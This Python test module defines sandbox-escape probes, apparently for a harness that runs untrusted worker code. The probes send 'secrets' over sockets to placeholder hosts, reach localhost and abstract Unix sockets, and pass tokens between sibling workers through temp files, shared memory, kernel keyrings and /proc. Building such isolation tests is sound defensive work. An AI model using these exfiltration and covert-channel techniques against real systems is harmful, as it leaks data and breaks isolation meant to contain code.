"""Attacks that talk: over the network, to the machine, and from one worker to the next."""

from __future__ import annotations

from tests.attacks.attack import Attack, scale

_PLACES = """
import mmap, socket
def keep(text):
    "Leave a text for another worker wherever one may look."
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue", "/scratch", os.environ["TMPDIR"], os.path.expanduser("~")):
        attempt(lambda: open(f"{folder}/$SOCKET", "w").write(text))
    import ctypes
    library = ctypes.CDLL(None, use_errno=True)
    library.shmat.restype = ctypes.c_void_p
    number = library.shmget(0x5EED, 4096, 0o1666)
    if number >= 0:
        place = library.shmat(number, None, 0)
        if place and place != ctypes.c_void_p(-1).value: ctypes.memmove(place, text.encode(), len(text))
    data = text.encode()
    for ring in KEYRINGS:
        libc("syscall", KEYCTL[0], b"user", b"$SOCKET", data, len(data), ring)
        libc("syscall", KEYCTL[0], b"user", data, data, len(data), ring)  # its name can be listed
def look():
    tell(attempt(content, "/proc/keys"))
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue", "/scratch", os.environ["TMPDIR"], os.path.expanduser("~")):
        tell(attempt(content, f"{folder}/$SOCKET"))
    import ctypes
    library = ctypes.CDLL(None, use_errno=True)
    library.shmat.restype = ctypes.c_void_p
    number = library.shmget(0x5EED, 4096, 0)
    if number >= 0: tell(ctypes.string_at(library.shmat(number, None, 0), 64))
    buffer = ctypes.create_string_buffer(128)
    for ring in KEYRINGS:
        key = libc("syscall", KEYCTL[1], 10, ring, b"user", b"$SOCKET", 0)
        if isinstance(key, int): libc("syscall", KEYCTL[1], 11, key, buffer, 128); tell(buffer.raw)
KEYRINGS = (-1, -2, -3, -4, -5)  # of the thread, process, session, user, and of the user's session
KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]  # add_key, keyctl
"""
_MEETING = """
FOLDERS = ["/tmp", "/dev/shm", "/var/tmp", "/run/lock", "/run", os.environ["TMPDIR"]]
def leave():
    "Leave a text for a worker that is alive, open to everybody."
    for folder in FOLDERS:
        attempt(lambda: open(f"{folder}/meet-$SOCKET", "w").write("$TOKEN"))
        attempt(os.chmod, f"{folder}/meet-$SOCKET", 0o666)
        attempt(os.chmod, folder, 0o777)
def take():
    above, heard = os.path.dirname(os.environ["TMPDIR"]), []
    theirs = [f"{above}/worker-{number}" for number in range(os.getpid() - 99, os.getpid() + 99)]
    for _ in range(5):
        heard += [attempt(content, f"{folder}/meet-$SOCKET") for folder in FOLDERS + theirs]
        time.sleep(0.02)
    return [text for text in heard if isinstance(text, bytes)]
"""

ATTACKS = (
    Attack(
        name="connect-to-the-world",
        source=scale("""
        import socket
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            for family, host in ((socket.AF_INET, "192.0.2.1"), (socket.AF_INET6, "2001:db8::1")):
                try:
                    with socket.socket(family, kind) as s:
                        s.settimeout(0.02)
                        s.connect((host, 80)); s.send(b"secrets")
                        print("FOUND a way out"); return x * factor
                except OSError: pass
        tell(attempt(socket.gethostbyname, "example.com"))
    """),
    ),
    Attack(
        name="connect-to-the-machine",
        source=scale("""
        import socket
        for host in ("127.0.0.1", "0.0.0.0", "localhost"):
            tell(attempt(socket.create_connection, (host, $PORT), 0.1))
    """),
    ),
    Attack(
        name="connect-by-name",
        source=scale("""
        import socket
        with socket.socket(socket.AF_UNIX) as s: tell(attempt(s.connect, "\\0$SOCKET"))
    """),
        user=False,
    ),
    # of the next two pairs both workers are alive: the second is imported while the first is graded
    Attack(
        name="meet-a-sibling-and-serve",
        source=scale(
            "tell(); time.sleep(0.2)",
            above="""
        import socket, threading
        SERVER = socket.socket(socket.AF_UNIX)
        SERVER.bind("\\0meet-$SOCKET")
        SERVER.listen()
        def serve():
            while True:
                with SERVER.accept()[0] as connection: connection.sendall(b"$TOKEN")
        threading.Thread(target=serve, daemon=True).start()
    """,
        ),
        user=False,
    ),
    Attack(
        name="meet-a-sibling-and-take",
        source=scale(
            "tell(*HEARD)",
            above="""
        import socket
        HEARD = []
        for _ in range(5):
            with socket.socket(socket.AF_UNIX) as s:
                s.settimeout(0.05)
                attempt(s.connect, "\\0meet-$SOCKET")
                HEARD.append(attempt(s.recv, 99))
            time.sleep(0.02)
    """,
        ),
        user=False,
    ),
    Attack(
        name="meet-in-a-folder-and-leave",
        source=scale("tell(); time.sleep(0.2)", above=f"{_MEETING}leave()"),
        user=False,
    ),
    Attack(
        name="meet-in-a-folder-and-take",
        source=scale("tell(*HEARD)", above=f"{_MEETING}HEARD = take()"),
        user=False,
    ),
    Attack(
        name="leave-something-for-the-next",
        source=scale(
            """
        keep("$TOKEN")
        print("tried")
    """,
            above=_PLACES,
        ),
    ),
    Attack(name="look-for-what-was-left", source=scale("look()", above=_PLACES)),
    Attack(name="look-again-after-it-has-ended", source=scale("look()", above=_PLACES)),
    Attack(
        name="see-a-sibling-work",
        source=scale("""
        listed = attempt(os.listdir, "/proc")
        numbers = {int(entry) for entry in listed if entry.isdigit()} if isinstance(listed, list) else set()
        for number in (numbers | set(range(os.getppid() - 9, os.getpid() + 9))) - {os.getpid()}:
            if isinstance(attempt(content, f"/proc/{number}/cmdline"), bytes):
                print("FOUND process", number); return x * factor
        tell(listed)
    """),
        user=False,
    ),
    Attack(
        name="talk-through-a-callback",
        source=scale("print('tried')", above="").replace(
            "def descend(grad, w, lr):",
            "def descend(grad, w, lr):\n    attempt(grad, 'a text')\n    attempt(grad, [b'x' * 10**6])",
        ),
        solves=("mean",),
    ),
)
